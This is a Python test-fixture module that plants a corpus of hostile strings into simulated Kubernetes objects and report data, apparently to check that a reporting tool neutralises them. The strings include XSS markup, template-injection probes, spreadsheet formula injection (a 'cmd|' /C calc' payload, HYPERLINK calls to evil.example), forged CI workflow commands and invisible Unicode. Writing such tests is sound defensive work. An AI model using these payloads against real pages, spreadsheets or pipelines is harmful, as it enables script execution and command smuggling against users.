"""Strings made to act where they are shown, and where they are planted: in all that a cluster can name, in papers, in config."""

from __future__ import annotations

import json
import random
from collections.abc import Callable, Iterator
from typing import Any

import msgspec

from tests.reports.test_machine_formats import CORPUS
from tests.world import World

_CODE = "alert(1)"
MARKUP = (
    f"<script>{_CODE}</script>", f"</script><script>{_CODE}</script>", f"<ScRiPt >{_CODE}</sCrIpT>", "<script src=//evil.example/x.js></script>", f"<img src=x onerror={_CODE}>",
    f'"><img src=x onerror={_CODE}>', f"'><svg/onload={_CODE}>", f"<svg onload={_CODE}>", f"<svg><script>{_CODE}</script></svg>", f"<body onload={_CODE}>", "<iframe src=javascript:alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'>", "<object data=javascript:alert(1)>", "<embed src=javascript:alert(1)>", "<a href=javascript:alert(1)>x</a>", "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<base href=//evil.example/>", "<link rel=stylesheet href=//evil.example/x.css>", "<meta http-equiv=refresh content='0;url=//evil.example'>", "<meta http-equiv=Content-Security-Policy content=\"default-src *\">",
    "<form action=//evil.example><input name=x></form>", "<button formaction=javascript:alert(1)>x</button>", f"<details open ontoggle={_CODE}>", f"<input autofocus onfocus={_CODE}>", f"<video><source onerror={_CODE}></video>",
    f"<audio src=x onerror={_CODE}>", f"<marquee onstart={_CODE}>", f"<math><mtext><img src=x onerror={_CODE}></mtext></math>", "<style>*{background:url(//evil.example)}</style>", f"</style><script>{_CODE}</script>",
    f"</title><script>{_CODE}</script>", f"</textarea><script>{_CODE}</script>", f"</noscript><script>{_CODE}</script>", f"--><script>{_CODE}</script>", f"<!--<script>{_CODE}</script>-->", f"]]><script>{_CODE}</script>",
    "<![CDATA[<script>alert(1)</script>]]>", f'" onmouseover="{_CODE}', f"' onfocus='{_CODE}' autofocus='", f'" autofocus onfocus={_CODE} x="', f"` onmouseover={_CODE} `", "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;", "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e", "%3Cscript%3Ealert(1)%3C/script%3E", "＜script＞alert(1)＜/script＞", "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror\x00=alert(1)>", "<img\x0bsrc=x onerror=alert(1)>", "<img/src=x/onerror=alert(1)>", "{{7*7}}{% raw %}", "${7*7}", "{{constructor.constructor('alert(1)')()}}", "#{7*7}", "<%= 7*7 %>", "<template><script>alert(1)</script></template>",
    "<dialog open>x</dialog>", "<portal src=//evil.example>", "<isindex type=image src=x>", "<x onclick=alert(1)>click</x>", "javascript:alert(1)", "java\tscript:alert(1)", "vbscript:msgbox(1)", "data:text/html;base64,PHNjcmlwdD4=",
    "<plaintext>", "<xmp><img src=x></xmp>", "<frameset onload=alert(1)>", "<table background=//evil.example>", "<svg><animate onbegin=alert(1) attributeName=x>", "<svg><use href=data:image/svg+xml,x>",
)  # fmt: skip
_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "|", "%", "＝", "＋", "－", "＠", "﹦", "⁼", "﹢", "﹣", "﹫")
FORMULAS = tuple(form for start in _STARTS for form in (f"{start}1+1", f'"{start}1+1"', f" {start}cmd|' /C calc'!A0", f"\u3000{start}1", f"\u200b{start}HYPERLINK(\"http://evil.example\",\"x\")", f"'{start}1", f'""{start}1,2"'))  # fmt: skip
COMMANDS = (
    "::error::forged", "\n::error file=x::forged", "%0A::set-output name=x::y", "\r::stop-commands::t", "::add-mask::x", "##[error]forged", "##vso[task.setvariable variable=x]y", "::set-env name=PATH::/tmp", "\u2028::error::x", "::endgroup::",
    "| a | b |\n|---|---|", "\n\n# Heading", "\n- [x] done", "[click](javascript:alert(1))", "![x](http://evil.example/p.png)", "<https://evil.example>", "https://evil.example/a_b", "www.evil.example", "@everyone", "@octocat/team", "#1 GH-1 octo/x#2", "`code` **bold** __x__ ~~no~~",
    "```\ncode\n```", "~~~", "    indented", "> quote", "1. one", "***", "a\n===", "[x]: http://evil.example 'y'", "\\", "\\|", "$\\color{red}{x}$", ":smile:", "[^1]", "&nbsp;&#10;", "<!-- x -->", "a  \nb", "</details>", "<details><summary>",
)  # fmt: skip
INVISIBLE = tuple(
    f"READ{chr(code)}Y"
    for code in (
        0x034F,
        0x115F,
        0x1160,
        0x17B4,
        0x180B,
        0x180E,
        0x200B,
        0x2060,
        0x206A,
        0x2800,
        0x3164,
        0xFE0F,
        0xFFA0,
        0xFFF9,
        0x1D173,
        0xE0001,
        0xE0101,
    )
)
# Selectors behind what they fit, but too many; behind what they do not fit; and the honest ones.
SELECTORS = (
    "READ\u26a0" + "\ufe0f" * 8 + "Y", "READ\u845b\U000e0148\U000e0169\U000e0121Y", "READ\u26a0\U000e0101Y", "READ\u845b\ufe0fY", "READ\u26a0\ufe0eY", "1\ufe0f\u20e3", "\U0001f600\ufe0f",
    "\ufe0f\u26a0", "\u26a0\ufe0f READ\u845b\U000e0100Y",
)  # fmt: skip
STRINGS = tuple(dict.fromkeys(text for text in (*CORPUS, *MARKUP, *FORMULAS, *COMMANDS, *INVISIBLE, *SELECTORS) if text.strip() and len(text) < 400))
MARK = "hostile7q"
Deal = Callable[[], str]


def dealer(strings: tuple[str, ...] = STRINGS, start: int = 0) -> Deal:
    """Hands out the strings in turn, from one on."""
    number = start - 1

    def deal() -> str:
        nonlocal number
        number += 1
        return strings[number % len(strings)]

    return deal


def fuzzed(generator: random.Random) -> Deal:
    """Hands out random strings: characters of every kind, pieces of the hostile ones, of any length."""
    ranges = ((0, 0x20), (0x20, 0x7F), (0x7F, 0xA0), (0xA0, 0x250), (0x2000, 0x2070), (0xD800, 0xE000), (0xFE00, 0x10000), (0x1F300, 0x1F700), (0xE0000, 0xE0200))  # fmt: skip

    def deal() -> str:
        parts = []
        for _ in range(generator.choice((1, 2, 3, 8))):
            first, last = generator.choice(ranges)
            parts.append(
                "".join(chr(generator.randrange(first, last)) for _ in range(generator.randrange(6)))
                if generator.random() < 0.7
                else generator.choice(STRINGS)
            )
        return "".join(parts)

    return deal


# In a cluster

KEPT = ("apiVersion", "kind", "namespace", "uid", "creationTimestamp", "resourceVersion", "phase")
FOUND_BY = ("Deployment", "Namespace")  # by whose names and labels the release is found
TEXTS = frozenset(
    ["image", "host", "hosts", "message", "reason", "url", "server", "path", "value", "provisioner", "driver", "secretName", "reclaimPolicy", "schedule", "repoURL", "targetRevision", "expr", "summary",
     "osImage", "kubeletVersion", "containerRuntimeVersion", "version", "args", "volumeHandle", "share", "state", "robustness", "loadBalancerClass", "externalName", "topologyKey", "claimName", "whenUnsatisfiable"]
)  # fmt: skip


def plant(world: World, deal: Deal, generator: random.Random, share: float) -> World:
    """Hostile text in a share of all that a world says: names and what refers to them, labels, annotations, values, messages.

    A name keeps its beginning, and all that refers to it is renamed with it; other texts get one in front, behind, or in their place.
    """
    names = {item["metadata"]["name"] for item in world.objects if item["kind"] not in FOUND_BY} - {"exivity", "kube-system"}
    renamed = {name: f"{name}{deal()}" for name in sorted(names) if generator.random() < share}

    def planted(value: Any, key: str, careful: bool) -> Any:
        if isinstance(value, dict):
            free = key in ("data", "stringData") or (key in ("labels", "annotations", "matchLabels", "parameters") and not careful)
            return {
                name: inner if name in KEPT or (careful and name == "selector") else planted(inner, "text" if free else name, careful)
                for name, inner in value.items()
            }
        if isinstance(value, list):
            return [planted(inner, key, careful) for inner in value]
        if not isinstance(value, str) or value in renamed:
            return renamed.get(value, value) if isinstance(value, str) else value
        if (key not in TEXTS and key != "text") or generator.random() >= share / 4:
            return value
        return generator.choice((value + deal(), value + deal(), deal() + value, deal()))

    for item in world.objects:
        careful = item["kind"] in FOUND_BY
        item.update(planted(item, "", careful))
        if not careful:
            metadata = item["metadata"]
            metadata["annotations"] = {**(metadata.get("annotations") or {}), "note": deal(), deal(): deal()}
    return world


# In what a report is made of


def dealt(value: Any, deal: Deal, kept: dict[str, str]) -> Any:
    """A value made with ``MARK`` in each text that others write, with the strings in their place; ``kept`` are the same everywhere."""
    return _dealt(value, deal, kept, {})


def _dealt(value: Any, deal: Deal, kept: dict[str, str], known: dict[int, Any]) -> Any:
    if isinstance(value, str):
        return value if MARK not in value or type(value) is not str else kept[value] if value in kept else value.replace(MARK, deal())
    if (isinstance(value, tuple) and type(value) is tuple) or isinstance(value, list):
        return type(value)(_dealt(one, deal, kept, known) for one in value)
    if isinstance(value, dict):
        return {_dealt(key, deal, kept, known): _dealt(one, deal, kept, known) for key, one in value.items()}
    if isinstance(value, msgspec.Struct):
        if id(value) not in known:
            known[id(value)] = _remade(value, lambda one: _dealt(one, deal, kept, known))
        return known[id(value)]
    return value


def _remade(value: msgspec.Struct, change: Callable[[Any], Any]) -> msgspec.Struct:
    return msgspec.structs.replace(value, **{name: change(getattr(value, name)) for name in value.__struct_fields__})


def texts(value: Any) -> Iterator[str]:
    """Every text in plain values."""
    if isinstance(value, str):
        yield value
    elif isinstance(value, dict):
        for key, inner in value.items():
            yield key
            yield from texts(inner)
    elif isinstance(value, list):
        for inner in value:
            yield from texts(inner)


def shown_in(report: bytes) -> set[str]:
    """The strings that reached a JSON report."""
    whole = "\0".join(texts(json.loads(report)))
    return {text for text in STRINGS if len(text) > 3 and text in whole}
